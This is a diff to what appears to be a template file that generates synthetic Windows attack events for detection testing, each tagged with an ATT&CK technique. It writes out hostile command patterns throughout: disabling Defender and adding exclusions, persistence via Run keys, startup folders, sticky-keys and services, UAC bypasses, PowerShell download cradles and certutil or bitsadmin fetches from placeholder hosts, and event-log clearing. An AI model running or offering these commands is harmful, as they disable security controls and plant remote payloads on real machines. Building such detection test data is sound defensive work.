@@ -33,7 +33,7 @@ us-defender-key value +T1685: ‹writer› ;; HKLM\SOFTWARE\Policies\Microsoft\W
 us-defender-realtime value +T1685: ‹writer› ;; HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection\«DisableRealtimeMonitoring¦DisableBehaviorMonitoring¦DisableOnAccessProtection¦DisableScanOnRealtimeEnable¦DisableIOAVProtection» ;; DWORD (0x00000001)
 us-defender-features-1 value +T1685: ‹s32›\reg.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection ;; DWORD (0x00000000)
 us-defender-features-2 value +T1685: ‹s32›\reg.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\Spynet\SpyNetReporting ;; DWORD (0x00000000)
-us-defender-features-3 value +T1685: ‹s32›\reg.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\UX Configuration\Notification_Suppress ;; DWORD (0x00000001)
+us-defender-features-3 value +T1685.003: ‹s32›\reg.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\UX Configuration\Notification_Suppress ;; DWORD (0x00000001)
 us-defender-excluded value +T1685: ‹s32›\svchost.exe ;; HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\«Paths\«C:\¦C:\Users\Public¦C:\Windows\Temp¦‹ownplace›»¦Extensions\.«exe¦dll¦ps1»¦Processes\‹name›.exe» ;; DWORD (0x00000000)
 us-mppref-bare process +T1685: @ ;; «powershell¦powershell.exe» «-Command ¦-c ¦»Set-MpPreference -Disable«RealtimeMonitoring¦IOAVProtection¦ScriptScanning¦BehaviorMonitoring¦BlockAtFirstSeen» «$true¦1» ;; ‹cmd›
 us-mppref-add process +T1685: @ ;; «powershell¦powershell.exe» «-inputformat none -outputformat none -NonInteractive -Command ¦-c ¦»Add-MpPreference -ExclusionPath «C:\¦‹ownplace›¦"$env:TEMP"» ;; «‹own›¦‹cmd›»
@@ -51,13 +51,13 @@ us-run-reg value +T1547.001: ‹reg› ;; «‹hku›\SOFTWARE¦HKLM\SOFTWARE»\
 us-runonce-reg value +T1547.001: «‹ps›¦‹cmd›» ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\«RunOnce¦RunOnceEx\0001\Depend»\«‹name›¦1¦NextRun» ;; «‹dir›\‹name›.«exe¦bat¦dll»¦powershell.exe "IEX (New-Object Net.WebClient).DownloadString(`"http://‹ip›/‹name›.ps1`")"»
 us-startup-script file +T1547.001: «‹ps›¦‹cmd›¦‹own›» ;; C:\Users\‹user›\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.«vbs¦jse¦bat¦lnk¦exe¦hta»
 us-startup-all file +T1547.001: «‹ps›¦‹cmd›¦‹own›» ;; C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\‹name›.«vbs¦jse¦bat¦exe¦url»
-us-startup-copy process +T1547.001: @ ;; «copy¦xcopy /y¦cmd /c move» ‹dir›\‹name›.«vbs¦bat¦exe» "«%APPDATA%¦C:\ProgramData¦C:\Users\‹user›\AppData\Roaming»\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.«vbs¦bat¦exe»" ;; ‹cmd›
+us-startup-copy process +T1547.001: @ ;; «cmd.exe /c copy¦xcopy.exe /y¦cmd.exe /c move» ‹dir›\‹name›.«vbs¦bat¦exe» "«%APPDATA%¦C:\ProgramData¦C:\Users\‹user›\AppData\Roaming»\Microsoft\Windows\Start Menu\Programs\Startup\‹name›.«vbs¦bat¦exe»" ;; ‹cmd›
 us-shell-folders value +T1547.001: ‹writer› ;; ‹hku›\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\«User Shell Folders¦Shell Folders»\«Common ¦»Startup ;; ‹ownplace›
 us-winlogon-shell-1 value +T1547.004: ‹writer› ;; «HKLM¦‹hku›»\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell ;; explorer.exe, ‹own›
 us-winlogon-shell-2 value +T1547.004: ‹writer› ;; «HKLM¦‹hku›»\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit ;; C:\Windows\System32\userinit.exe, ‹own›
 us-winlogon-shell-3 value +T1547.004: ‹writer› ;; «HKLM¦‹hku›»\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Notify\‹name› ;; ‹ownplace›\‹name›.dll
 us-sticky-key value +T1546.008: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\«sethc¦utilman¦osk¦magnify¦narrator¦displayswitch¦atbroker».exe\Debugger ;; «C:\windows\system32\cmd.exe¦‹ps›¦‹own›»
-us-sticky-copy process +T1546.008: @ ;; copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\«sethc¦utilman¦osk¦magnify».exe ;; ‹cmd›
+us-sticky-copy process +T1546.008: @ ;; cmd.exe /c copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\«sethc¦utilman¦osk¦magnify».exe ;; ‹cmd›
 us-sticky-child process +T1546.008: @ ;; cmd.exe«¦ sethc.exe 211» ;; ‹s32›\«sethc¦utilman¦osk¦winlogon».exe ;; «sethc.exe¦utilman.exe /debug¦winlogon.exe»
 us-wmi-filter sysmon +T1546.003: 19 ;; EventType=WmiFilterEvent ;; Operation=Created ;; EventNamespace="root\\cimv2" ;; Name="‹Word›" ;; Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_«PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240¦LocalTime' AND TargetInstance.Hour = ‹n›»"
 us-wmi-consumer sysmon +T1546.003: 20 ;; EventType=WmiConsumerEvent ;; Operation=Created ;; Name="«‹Word›¦‹name›»" ;; Type=Command Line ;; Destination="«C:\\Windows\\System32\\‹name›.exe¦powershell.exe -enc ‹enc›¦cmd /c ‹name›.bat¦C:\\Users\\Public\\‹name›.exe»"
@@ -74,7 +74,7 @@ us-uac-reg process +T1548.002: @ ;; reg.exe add hkcu\software\classes\«ms-setti
 us-uac-policy value +T1548.002: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\«EnableLUA¦ConsentPromptBehaviorAdmin¦PromptOnSecureDesktop» ;; DWORD (0x00000000)
 us-uac-windir-1 value +T1548.002: ‹writer› ;; ‹hku›\Environment\windir ;; cmd.exe /c ‹own› & REM
 us-uac-windir-2 value +T1548.002: ‹writer› ;; ‹hku›\Environment\windir ;; ‹own› /
-us-uac-windir-3 value +T1548.002: ‹writer› ;; ‹hku›\Environment\COR_PROFILER_PATH ;; ‹ownplace›\‹name›.dll
+us-uac-windir-3 value +T1574.012: ‹writer› ;; ‹hku›\Environment\COR_PROFILER_PATH ;; ‹ownplace›\‹name›.dll
 near-us-uac-child process: @ ;; "C:\Windows\system32\mmc.exe" C:\Windows\system32\«eventvwr¦services¦compmgmt».msc ;; ‹s32›\«eventvwr¦CompMgmtLauncher».exe ;; "C:\Windows\System32\eventvwr.exe"
 near-us-uac-parent process: @ ;; "C:\Windows\System32\«fodhelper¦computerdefaults¦slui».exe" ;; C:\Windows\explorer.exe ;; C:\Windows\Explorer.EXE
 near-us-uac-policy value: ‹s32›\svchost.exe ;; HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System\«EnableLUA¦ConsentPromptBehaviorAdmin¦PromptOnSecureDesktop» ;; DWORD (0x00000001)
@@ -107,7 +107,7 @@ us-task-create process +T1053.005: @ ;; «SCHTASKS¦schtasks¦schtasks.exe» /Cr
 us-service-sc process +T1543.003: @ ;; sc«.exe¦» create «‹Word›¦‹name›¦‹Word›Service_CMD» binPath= "«‹own›¦‹dir›\‹name›.exe»" start=«auto¦ auto¦ demand» «type=Own¦type= own¦» ;; «‹cmd›¦‹ps›»
 us-service-7045 service +T1543.003: «‹letters8›¦‹Word›¦‹name›» ;; «‹own›¦C:\Users\Public\‹name›.exe¦C:\Windows\Temp\‹name›.exe¦C:\ProgramData\‹name›\‹name›.exe»
 us-service-7045-smb service +T1569.002: «‹letters8›¦BTOBTO» ;; %COMSPEC% /«Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat¦b /c start /b /min powershell -nop -w hidden -enc ‹enc›»
-us-service-image value +T1543.003: «‹reg›¦‹ps›» ;; HKLM\System\CurrentControlSet\Services\«‹name›¦Fax¦AppReadiness¦IKEEXT»\ImagePath ;; «‹own›¦‹payload›¦‹ownplace›\‹name›.exe»
+us-service-image value +T1574.011: «‹reg›¦‹ps›» ;; HKLM\System\CurrentControlSet\Services\«Fax¦AppReadiness¦IKEEXT»\ImagePath ;; «‹own›¦‹payload›¦‹ownplace›\‹name›.exe»
 # Running
 us-iex-cradle process +T1059.001: @ ;; powershell«.exe¦» «-nop -w hidden ¦-ep bypass ¦»-c "«IEX¦iex»((New-Object Net.WebClient).DownloadString('http«s¦»://«‹ip›¦‹word›.com»/‹name›«.ps1¦»'))" ;; «‹cmd›¦‹office›¦‹own›»
 us-encoded process +T1059.001: @ ;; powershell«.exe¦» «-e¦-enc¦-EncodedCommand¦-nop -w hidden -e¦-noP -sta -w 1 -enc» ‹enc› ;; «‹cmd›¦‹office›¦‹s32›\wscript.exe¦‹s32›\mshta.exe»
@@ -115,9 +115,9 @@ us-msf-loader process +T1059.001: @ ;; powershell.exe -nop -w hidden -noni -c "i
 us-macro-child process +T1204.002: @ ;; «cmd.exe /c ‹name›.bat¦wscript.exe ‹ownplace›\‹name›.vbs¦C:\Windows\System32\cmd.exe /c start ‹own›¦‹own›» ;; ‹office›
 us-thread thread +T1055: ‹own› ;; «‹s32›\notepad.exe¦C:\Windows\explorer.exe¦‹s32›\svchost.exe¦‹s32›\spoolsv.exe»
 us-certutil-get process +T1105: @ ;; certutil«.exe¦» «-urlcache -split -f¦-urlcache -f¦-verifyctl -split -f¦/urlcache /f» http«s¦»://«‹ip›¦‹word›.com»/‹name›.«exe¦txt¦ps1¦dll» «‹own›¦‹name›.exe¦‹dir›\‹name›.txt» ;; «‹cmd›¦‹ps›»
-us-bitsadmin-get process +T1105: @ ;; bitsadmin«.exe¦» /transfer ‹name› «/Priority HIGH¦/download /priority foreground¦» http«s¦»://«‹ip›¦‹word›.com»/‹name›.exe ‹own› ;; «‹cmd›¦‹ps›»
+us-bitsadmin-get process +T1197: @ ;; bitsadmin«.exe¦» /transfer ‹name› «/Priority HIGH¦/download /priority foreground¦» http«s¦»://«‹ip›¦‹word›.com»/‹name›.exe ‹own› ;; «‹cmd›¦‹ps›»
 us-curl-get process +T1105: @ ;; «curl.exe -k -o ‹own› https://‹ip›/‹name›.exe¦curl -sLo ‹own› http://‹ip›/a¦powershell (New-Object Net.WebClient).DownloadFile('http://‹ip›/‹name›.exe','‹own›')¦powershell Invoke-WebRequest http://‹ip›/‹name›.exe -OutFile ‹own›» ;; ‹cmd›
-us-net-download sysmon +T1105: 3 ;; Image=‹s32›\«certutil¦bitsadmin¦mshta¦regsvr32¦esentutl».exe ;; Initiated=true ;; DestinationIp=‹ip› ;; DestinationPort=«80¦443¦8080¦8443»
+us-net-download sysmon +T1105: 3 ;; Image=‹s32›\«certutil¦bitsadmin¦esentutl».exe ;; Initiated=true ;; DestinationIp=‹ip› ;; DestinationPort=«80¦443¦8080¦8443»
 us-log-clear security +T1685.005: 1102 ;; Channel=Security ;; Message=The audit log was cleared.
 us-log-clear-104 log +T1685.005: Microsoft-Windows-Eventlog|System|104 ;; Channel=«Security¦System¦Application¦Windows PowerShell¦Microsoft-Windows-Sysmon/Operational» ;; BackupPath=
 us-log-clear-bare process +T1685.005: @ ;; wevtutil«.exe¦» «cl¦clear-log» «System¦Security¦Application¦Setup»
